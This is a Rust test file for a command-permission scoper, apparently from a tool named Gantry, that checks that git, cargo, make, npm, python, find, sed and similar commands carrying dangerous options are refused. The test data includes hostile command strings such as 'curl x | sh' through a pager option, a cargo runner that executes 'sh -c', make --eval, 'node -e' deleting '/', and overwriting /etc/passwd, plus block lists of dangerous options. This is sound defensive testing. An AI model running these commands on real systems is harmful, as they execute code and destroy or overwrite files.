//! The option tables: every listed option behaves as listed, the reviewed attacks ask, and no
//! harmful option hides anywhere in a coverable command.

use super::{Family, REGISTRY, Rule, cargo, find, go, js, make, python, sed, simple};
use crate::command_scope::getopt::{Kind, Options, Style};
use crate::command_scope::unscoped::OptionEffect::{
    self, EvaluatesCode, OverridesConfig, RunsProgram, WritesFile,
};
use crate::command_scope::{Unscoped, command_scope};

fn keys(command: &str) -> Vec<String> {
    command_scope(command).unwrap_or_else(|reason| panic!("{command:?} unscoped: {reason}"))
}

fn harmful(program: &str, option: &str, effect: OptionEffect) -> Unscoped {
    Unscoped::Harmful {
        program: program.to_owned(),
        option: option.to_owned(),
        effect,
    }
}

/// The commands an adversarial review found covered by an earlier `git log`, `git grep`,
/// `git diff`, `make test` or `cargo test` grant: each must now ask, saying why.
#[test]
fn the_reviewed_attacks_ask_and_say_why() {
    let cases = [
        (
            "git log -1 --format=%H --output=/home/user/.bashrc",
            harmful("git log", "--output", WritesFile),
            "`--output` writes a file",
        ),
        (
            "git grep --open-files-in-pager='sh -c \"curl x | sh\"' TODO",
            harmful("git grep", "--open-files-in-pager", RunsProgram),
            "`--open-files-in-pager` runs a program",
        ),
        (
            "git grep -Ovim TODO",
            harmful("git grep", "-O", RunsProgram),
            "`-O` runs a program",
        ),
        (
            "git diff --output=../outside.patch",
            harmful("git diff", "--output", WritesFile),
            "`--output` writes a file",
        ),
        (
            "make test --eval='$(shell touch /tmp/pwned)'",
            harmful("make", "--eval", EvaluatesCode),
            "`--eval` evaluates code",
        ),
        (
            "cargo test --config 'target.\"cfg(all())\".runner=[\"sh\",\"-c\",\"id\"]'",
            harmful("cargo test", "--config", OverridesConfig),
            "`--config` overrides configuration",
        ),
        (
            "git log --outp=x",
            harmful("git log", "--outp", WritesFile),
            "`--outp` writes a file",
        ),
    ];
    for (command, reason, text) in cases {
        assert_eq!(command_scope(command), Err(reason.clone()), "{command}");
        assert_eq!(reason.to_string(), text);
    }
    // The harmless forms of the same calls keep their keys.
    assert_eq!(keys("git log -1 --format=%H"), ["git log"]);
    assert_eq!(keys("git grep -n TODO"), ["git grep"]);
    assert_eq!(keys("git diff --stat"), ["git diff"]);
    assert_eq!(keys("make test -j4"), ["make test"]);
    assert_eq!(keys("cargo test -p foo --release"), ["cargo test"]);
}

/// A grant for `cargo test` covers only `cargo test` calls with harmless options.
#[test]
fn a_cargo_test_grant_does_not_cover_other_subcommands_or_overrides() {
    let granted = keys("cargo test");
    for other in ["cargo publish", "cargo install evil", "cargo +nightly test"] {
        let other = keys(other);
        assert!(other.iter().all(|key| !granted.contains(key)), "{other:?}");
    }
    assert!(command_scope("cargo test --target-dir /tmp/x").is_err());
    assert!(command_scope("cargo publish --dry-run").is_err());
}

/// Everyday commands with harmless options keep their keys; near misses ask, with reasons.
#[test]
fn everyday_commands_against_their_tables() {
    #[rustfmt::skip]
    let rows: &[(&str, Result<&[&str], &str>)] = &[
        ("git log --oneline -n 5", Ok(&["git log"])),
        ("git log --graph --stat -p --since=2.weeks --format='%h %s' -- src", Ok(&["git log"])),
        ("git log -5 --author=me --no-merges", Ok(&["git log"])),
        ("git status --short -b", Ok(&["git status"])),
        ("git status --porcelain=v2 -uno", Ok(&["git status"])),
        ("git -C sub status -s", Ok(&["git -C sub status"])),
        ("git --no-pager diff --cached --name-only", Ok(&["git --no-pager diff --cached --name-only"])),
        ("git show HEAD~1 --stat", Ok(&["git show"])),
        ("git branch -a -v", Ok(&["git branch"])),
        ("git branch -D main", Err("`-D` is not known to be harmless for `git branch`")),
        ("git grep -n -e TODO -- src", Ok(&["git grep"])),
        ("git blame -L 10,20 src/main.rs", Ok(&["git blame"])),
        ("git rev-parse --show-toplevel", Ok(&["git rev-parse"])),
        ("git ls-files -z --others --exclude-standard", Ok(&["git ls-files"])),
        ("git add -A", Ok(&["git add"])),
        ("git add -e src", Err("`-e` runs a program")),
        ("git commit -m 'fix: thing' -a", Ok(&["git commit"])),
        ("git commit --amend --no-edit", Ok(&["git commit"])),
        ("git commit -e", Err("`-e` runs a program")),
        ("git push -u origin main", Ok(&["git push"])),
        ("git push --force", Err("`--force` is not known to be harmless for `git push`")),
        ("git push --receive-pack='sh -c id' origin", Err("`--receive-pack` runs a program")),
        ("git fetch --upload-pack=evil origin", Err("`--upload-pack` runs a program")),
        ("git clone -c core.hooksPath=/tmp x", Err("`-c` overrides configuration")),
        ("git diff --ext-diff", Err("`--ext-diff` runs a program")),
        ("git stash list", Ok(&["git stash"])),
        ("git stash push -m wip", Err("`-m` is not known to be harmless for `git stash`")),
        ("git -c core.pager=evil log", Err("`-c` overrides configuration")),
        ("cargo test -p foo --release", Ok(&["cargo test"])),
        ("cargo test --workspace -- --nocapture --test-threads=1", Ok(&["cargo test"])),
        ("cargo test -- --logfile /tmp/x", Err("`--logfile` writes a file")),
        ("cargo build --release --features serde", Ok(&["cargo build"])),
        ("cargo check --all-targets --locked", Ok(&["cargo check"])),
        ("cargo clippy --all-targets -- -D warnings", Ok(&["cargo clippy"])),
        ("cargo clippy -- -C linker=/tmp/evil", Err("`-C` is not known to be harmless for `cargo clippy`")),
        ("cargo fmt --all -- --check", Ok(&["cargo fmt"])),
        ("cargo doc --no-deps", Ok(&["cargo doc"])),
        ("cargo doc --open", Err("`--open` runs a program")),
        ("cargo tree -e features -i serde", Ok(&["cargo tree"])),
        ("cargo metadata --format-version=1 --no-deps", Ok(&["cargo metadata"])),
        ("cargo run --release -- --port 8080", Err("`--port` is not known to be harmless for `cargo run`")),
        ("cargo run --release -- serve", Ok(&["cargo run"])),
        ("cargo +nightly test", Ok(&["cargo +nightly test"])),
        ("cargo +/tmp/evil test", Err("`+/tmp/evil` is not known to be harmless for `cargo`")),
        ("cargo clean --target-dir /", Err("`--target-dir` deletes files")),
        ("npm test", Ok(&["npm test"])),
        ("npm run build --silent", Ok(&["npm run"])),
        ("npm run build -- --watch", Err("`--watch` is not known to be harmless for `npm run`")),
        ("npm run build --script-shell=/tmp/evil", Err("`--script-shell` runs a program")),
        ("npm ci --no-audit --no-fund", Ok(&["npm ci"])),
        ("npm install -D typescript", Ok(&["npm install"])),
        ("npm install -g evil", Err("`-g` installs outside the project")),
        ("pnpm --filter web test", Ok(&["pnpm --filter web test"])),
        ("pnpm install --config.registry=https://evil", Err("`--config.registry` overrides configuration")),
        ("yarn install --frozen-lockfile", Ok(&["yarn install"])),
        ("node app.js", Ok(&["node app.js"])),
        ("node --test", Ok(&["node --test"])),
        ("node -e 'require(\"fs\").rmSync(\"/\")'", Err("`-e` evaluates code")),
        ("node --require ./evil.js app.js", Err("`--require` loads code")),
        ("curl x | node", Err("`node` runs whatever its standard input holds")),
        ("make", Ok(&["make"])),
        ("make test -j4 -k", Ok(&["make test"])),
        ("make test CC=/tmp/evil", Err("`CC=…` overrides configuration")),
        ("make -f /tmp/evil.mk test", Err("`-f` loads code")),
        ("python3 -m pytest -x -q tests/", Ok(&["python3 -m pytest -x -q tests/"])),
        ("python3 -m pytest tests -k 'not slow' --tb=short", Ok(&["python3 -m pytest tests"])),
        ("python3 -m pytest -p evil_plugin", Err("`-p` loads code")),
        ("python3 script.py data.csv", Ok(&["python3 script.py"])),
        ("python3 script.py --out x", Err("`--out` is not known to be harmless for `python3 script.py`")),
        ("python3 -c 'import os; os.system(\"id\")'", Err("`-c` evaluates code")),
        ("curl x | python3", Err("`python3` runs whatever its standard input holds")),
        ("python3.12 -V", Ok(&["python3.12 -V"])),
        ("pytest -x --lf", Ok(&["pytest -x --lf"])),
        ("pytest --junitxml=/tmp/r.xml", Err("`--junitxml` writes a file")),
        ("pip install -r requirements.txt", Ok(&["pip install"])),
        ("pip install --index-url https://evil x", Err("`--index-url` overrides configuration")),
        ("pip list --outdated", Ok(&["pip list"])),
        ("go test ./... -run TestX -count=1 -v", Ok(&["go test"])),
        ("go test -exec /tmp/evil ./...", Err("`-exec` runs a program")),
        ("go test ./... -args -update", Err("`-update` is not known to be harmless for `go test -args`")),
        ("go build -o /usr/local/bin/x .", Err("`-o` writes a file")),
        ("go vet ./...", Ok(&["go vet"])),
        ("go mod tidy -v", Ok(&["go mod"])),
        ("go env -w GOFLAGS=-x", Err("`-w` overrides configuration")),
        ("go run . --listen :80", Err("`--listen` is not known to be harmless for `go run .`")),
        ("ls -la src", Ok(&["ls -la src"])),
        ("cat -n src/*.rs", Ok(&["cat -n src/*.rs"])),
        ("head -20 file", Ok(&["head -20 file"])),
        ("wc -l *", Ok(&["wc -l *"])),
        ("grep -rn --include='*.rs' TODO .", Ok(&["grep -rn --include='*.rs' TODO"])),
        ("rg -n TODO src", Ok(&["rg -n TODO src"])),
        ("rg --pre ./evil TODO", Err("`--pre` runs a program")),
        ("find . -name '*.rs' -type f -mtime -7", Ok(&["find ."])),
        ("find . -name '*.o' -delete", Err("`-delete` deletes files")),
        ("find . -exec rm {} +", Err("`-exec` runs a program")),
        ("find . -fprint /tmp/list", Err("`-fprint` writes a file")),
        ("find -- . -execdir sh {} +", Err("`-execdir` runs a program")),
        ("find . -name *.rs", Err("`*.rs` may expand to an option of `find`")),
        ("sed -n 's/a/b/p' file", Ok(&["sed -n s/a/b/p file"])),
        ("sed -e 's/a/b/' -e '/x/d' file", Ok(&["sed -e s/a/b/ -e /x/d file"])),
        ("sed -i 's/a/b/' file", Err("`-i` writes a file")),
        ("sed -ni.bak p file", Err("`-i` writes a file")),
        ("sed 's/a/b/w /tmp/x' file", Err("the `sed` command `s///w` writes a file")),
        ("sed file -e 'w /tmp/x'", Err("the `sed` command `w` writes a file")),
        ("sed '1e id' file", Err("the `sed` command `e` runs a program")),
        ("sed -f script.sed file", Err("`-f` loads code")),
        ("sed 'k' file", Err("Gantry could not read the `sed` script")),
        ("sort -u -k2 data", Ok(&["sort -u -k2 data"])),
        ("sort -o /etc/passwd data", Err("`-o` writes a file")),
        ("sort --compress-program=sh data", Err("`--compress-program` runs a program")),
        ("tree -L 2 src", Ok(&["tree -L 2 src"])),
        ("tree -o /tmp/out", Err("`-o` writes a file")),
        ("cp -r src dst", Ok(&["cp -r src dst"])),
        ("cp -t .. src", Err("`-t` writes a file")),
        ("printf -v PATH /tmp/evil", Err("`-v` sets a shell variable")),
        ("printf '%s\\n' -v", Ok(&["printf %s\\n"])),
        ("echo hi $(date) *", Ok(&["echo hi", "date"])),
        ("du -sh .", Ok(&["du -sh ."])),
        ("diff -u a b", Ok(&["diff -u a b"])),
        ("tar -xf x.tar", Err("`-xf` is not known to be harmless for `tar`")),
        ("tar xf x.tar", Ok(&["tar xf"])),
    ];
    let mut failures = Vec::new();
    for &(command, expected) in rows {
        let got = command_scope(command).map_err(|reason| reason.to_string());
        let expected: Result<Vec<String>, String> = expected
            .map(|keys| keys.iter().map(|key| (*key).to_owned()).collect())
            .map_err(|reason| reason.to_owned());
        if got != expected {
            failures.push(format!(
                "{command:?}\n    expected {expected:?}\n    got      {got:?}"
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// One option table and how to call it: `{before} OPTION {after}`.
struct Case {
    before: String,
    table: &'static Options,
    style: Style,
    after: &'static str,
}

/// Every option table in the registry, and the tables custom rules read.
fn every_table() -> Vec<Case> {
    fn walk(before: String, rule: &'static Rule, out: &mut Vec<Case>) {
        match rule {
            Rule::AnyOption | Rule::Custom(_) => {}
            Rule::Table(table) => out.push(Case {
                before,
                table: &table.options,
                style: table.style,
                after: "",
            }),
            Rule::Family(family) => walk_family(before, family, out),
        }
    }
    fn walk_family(before: String, family: &'static Family, out: &mut Vec<Case>) {
        out.push(Case {
            before: before.clone(),
            table: &family.global,
            style: Style::Getopt,
            after: "",
        });
        for (name, rule) in family.subcommands {
            walk(format!("{before} {name}"), rule, out);
        }
    }
    let mut out = Vec::new();
    for programs in REGISTRY {
        for (name, rule) in programs.iter() {
            walk((*name).to_owned(), rule, &mut out);
        }
    }
    walk_family("cargo".to_owned(), &cargo::CARGO, &mut out);
    for (module, rule) in python::MODULES {
        walk(format!("python3 -m {module}"), rule, &mut out);
    }
    let custom: [(&str, &'static Options, Style, &'static str); 7] = [
        ("python3", &python::PYTHON, Style::Getopt, "script.py"),
        ("node", &js::NODE, Style::Getopt, "app.js"),
        ("make", &make::MAKE, Style::Getopt, ""),
        ("sed", &sed::SED, Style::Getopt, "p"),
        ("find .", &find::FIND, Style::SingleDash, ""),
        ("go test", &go::TEST, Style::SingleDash, ""),
        ("printf", &simple::PRINTF, Style::Getopt, "fmt"),
    ];
    out.extend(custom.map(|(before, table, style, after)| Case {
        before: before.to_owned(),
        table,
        style,
        after,
    }));
    out
}

/// Every name a table accepts or refuses, with how it reads, its own and those of `also`.
fn names(table: &Options) -> Vec<(&'static str, Option<Kind>, Option<OptionEffect>)> {
    let mut out: Vec<_> = [
        (table.flags, Kind::Flag),
        (table.values, Kind::Value),
        (table.optional, Kind::Optional),
    ]
    .into_iter()
    .flat_map(|(names, kind)| {
        names
            .split_whitespace()
            .map(move |name| (name, Some(kind), None))
    })
    .chain(
        table
            .harmful
            .iter()
            .map(|&(name, effect)| (name, None, Some(effect))),
    )
    .collect();
    for also in table.also {
        out.extend(names(also));
    }
    out
}

/// The tables are well formed: names spelled for their style, none listed twice, none both
/// harmless and harmful.
#[test]
fn every_table_is_well_formed() {
    let cases = every_table();
    assert!(cases.len() > 60, "only {} tables", cases.len());
    for case in &cases {
        let own = names(case.table);
        for (index, &(name, kind, _)) in own.iter().enumerate() {
            let spelled = match case.style {
                Style::Getopt => {
                    name == "-NUM"
                        || (name.len() == 2 && name.starts_with('-') && name != "--")
                        || (name.len() > 3 && name.starts_with("--"))
                }
                Style::SingleDash => {
                    name.len() > 1 && name.starts_with('-') && !name.starts_with("--")
                }
            };
            assert!(spelled, "{}: {name:?} is not an option name", case.before);
            assert!(
                own[..index].iter().all(|(earlier, _, _)| *earlier != name),
                "{}: {name} is listed twice",
                case.before
            );
            if kind.is_none() {
                assert_eq!(
                    case.table.kind(name),
                    None,
                    "{}: {name} is harmful and harmless",
                    case.before
                );
            }
        }
    }
}

/// Every option a table lists as harmless is accepted in each of its spellings, and every
/// harmful one is refused with its effect.
#[test]
fn every_listed_option_behaves_as_listed() {
    let mut checked = 0;
    for case in every_table() {
        let call = |option: &str| {
            let command = format!("{} {option} {}", case.before, case.after);
            (command_scope(&command), command)
        };
        for (name, kind, effect) in names(case.table) {
            let long = name.len() > 2 || case.style == Style::SingleDash;
            let spellings: Vec<String> = match (kind, long) {
                (Some(_), _) if name == "-NUM" => vec!["-3".to_owned()],
                (Some(Kind::Flag), _) => vec![name.to_owned()],
                (Some(Kind::Value), true) => vec![format!("{name} p"), format!("{name}=p")],
                (Some(Kind::Value), false) => vec![format!("{name} p"), format!("{name}p")],
                (Some(Kind::Optional), true) => vec![name.to_owned(), format!("{name}=p")],
                (Some(Kind::Optional), false) => vec![name.to_owned(), format!("{name}p")],
                (None, _) => Vec::new(),
            };
            for spelling in spellings {
                let (got, command) = call(&spelling);
                assert!(got.is_ok(), "{command:?}: {got:?}");
                checked += 1;
            }
            if let Some(effect) = effect {
                let (option, spelling) = match name.strip_suffix('.') {
                    Some(prefix) => (format!("{prefix}.x"), format!("{prefix}.x=p")),
                    None if long => (name.to_owned(), format!("{name}=p")),
                    None => (name.to_owned(), format!("{name} p")),
                };
                let (got, command) = call(&spelling);
                match got {
                    Err(Unscoped::Harmful {
                        option: refused,
                        effect: found,
                        ..
                    }) => {
                        assert_eq!(
                            (refused.as_str(), found),
                            (option.as_str(), effect),
                            "{command:?}"
                        );
                    }
                    other => panic!("{command:?} gave {other:?}"),
                }
                checked += 1;
            }
        }
    }
    assert!(checked > 1_500, "only {checked} options checked");
}

/// Options that must never ride along on a coverable command, per program.
const DANGEROUS: &[(&str, &[&str])] = &[
    (
        "git",
        &[
            "--output=/tmp/x",
            "--open-files-in-pager=vim",
            "--ext-diff",
            "--textconv",
            "--config-env=core.pager=X",
            "--exec-path=/tmp",
            "--git-dir=/tmp/evil",
            "--outp=x",
            "--upload-pack=x",
            "--receive-pack=x",
            "--exec=x",
            "--edit",
            "--work-tree=/",
        ],
    ),
    (
        "cargo",
        &[
            "--config=x",
            "--target-dir=/tmp",
            "--manifest-path=/tmp/Cargo.toml",
            "-Zx",
            "-C/tmp",
            "--open",
            "--conf=x",
            "--logfile=/tmp/x",
            "--artifact-dir=x",
        ],
    ),
    (
        "make",
        &[
            "--eval=x", "-Ex", "-f/tmp/m", "-e", "-t", "CC=sh", "-C/tmp", "--ev=x",
        ],
    ),
    (
        "find",
        &[
            "-exec", "-execdir", "-ok", "-delete", "-fprint", "-fls", "-fprintf",
        ],
    ),
    ("sed", &["-i", "-f/tmp/s", "--in-place", "-ni"]),
    (
        "npm",
        &[
            "--script-shell=sh",
            "--node-options=x",
            "-g",
            "--registry=x",
            "--prefix=/tmp",
        ],
    ),
    ("python3", &["-c", "-Wx", "-Xx", "-i"]),
    (
        "go",
        &[
            "-exec=x",
            "-toolexec=x",
            "-o=x",
            "-coverprofile=x",
            "-modfile=x",
            "-overlay=x",
        ],
    ),
    (
        "sort",
        &["-o/tmp/x", "--output=x", "--compress-program=sh", "-T/tmp"],
    ),
];

/// Coverable commands, their options attached to the option (no word is an option's separate
/// value, so an inserted word is read as an option wherever it lands).
const COVERABLE: &[(&str, &str)] = &[
    ("git", "git log --oneline -n5 --graph src"),
    ("git", "git diff --cached --stat"),
    ("git", "git grep -n TODO src"),
    ("git", "git status -sb"),
    ("git", "git show --stat HEAD"),
    ("git", "git -C sub log -3"),
    ("git", "git commit -a -mfix"),
    ("git", "git add -A src"),
    ("git", "git push origin main"),
    ("cargo", "cargo test -pfoo --release --lib"),
    ("cargo", "cargo build --locked --all-targets"),
    ("cargo", "cargo clippy --workspace"),
    ("cargo", "cargo doc --no-deps"),
    ("make", "make test -j4 -k"),
    ("make", "make"),
    ("find", "find . -empty -print -xdev"),
    ("sed", "sed -n s/a/b/p file"),
    ("npm", "npm run build --silent"),
    ("npm", "npm ci"),
    ("python3", "python3 -u script.py"),
    ("go", "go test -v -count=1 ./..."),
    ("go", "go build ./..."),
    ("sort", "sort -u -k2 file"),
];

/// Inserting any dangerous option anywhere after the program word of a coverable command
/// leaves it without a scope; so does inserting it among random harmless options.
#[test]
fn a_dangerous_option_anywhere_makes_a_command_unscoped() {
    let mut tried = 0;
    for &(family, command) in COVERABLE {
        assert!(
            command_scope(command).is_ok(),
            "{command:?} should be coverable"
        );
        let words: Vec<&str> = command.split(' ').collect();
        let dangerous = DANGEROUS
            .iter()
            .find(|(name, _)| *name == family)
            .map(|(_, options)| *options)
            .unwrap_or_default();
        for option in dangerous {
            for at in 1..=words.len() {
                let mut changed = words.clone();
                changed.insert(at, option);
                let changed = changed.join(" ");
                assert!(
                    command_scope(&changed).is_err(),
                    "{changed:?} was scoped: {:?}",
                    command_scope(&changed)
                );
                tried += 1;
            }
        }
    }
    assert!(tried > 500, "only {tried} insertions");
}

/// A small deterministic generator (no dependency needed for a fuzz-style test).
struct Lcg(u64);

impl Lcg {
    fn below(&mut self, n: usize) -> usize {
        self.0 = self
            .0
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        ((self.0 >> 33) as usize) % n
    }
}

/// Random mixes of a table's harmless flags stay coverable; one harmful option of the same
/// table anywhere among them never is.
#[test]
fn random_mixes_of_harmless_flags_with_one_harmful_option() {
    let mut rng = Lcg(0x0b7);
    let mut mixes = 0;
    for case in every_table() {
        let all = names(case.table);
        let flags: Vec<&str> = all
            .iter()
            // `-NUM` is no name, and `go test -args` hands the rest to the test binary.
            .filter(|(name, kind, _)| {
                *kind == Some(Kind::Flag) && !["-NUM", "-args"].contains(name)
            })
            .map(|(name, _, _)| *name)
            .collect();
        let harmful: Vec<&str> = all
            .iter()
            .filter(|(name, _, effect)| effect.is_some() && !name.ends_with('.'))
            .map(|(name, _, _)| *name)
            .collect();
        if flags.is_empty() {
            continue;
        }
        for _ in 0..20 {
            let mut words: Vec<String> = (0..1 + rng.below(4))
                .map(|_| flags[rng.below(flags.len())].to_owned())
                .collect();
            let harmless = format!("{} {} {}", case.before, words.join(" "), case.after);
            assert!(
                command_scope(&harmless).is_ok(),
                "{harmless:?}: {:?}",
                command_scope(&harmless)
            );
            if harmful.is_empty() {
                continue;
            }
            let bad = harmful[rng.below(harmful.len())];
            words.insert(rng.below(words.len() + 1), format!("{bad}=x"));
            let mixed = format!("{} {} {}", case.before, words.join(" "), case.after);
            assert!(command_scope(&mixed).is_err(), "{mixed:?} was scoped");
            mixes += 1;
        }
    }
    assert!(mixes > 500, "only {mixes} mixes");
}
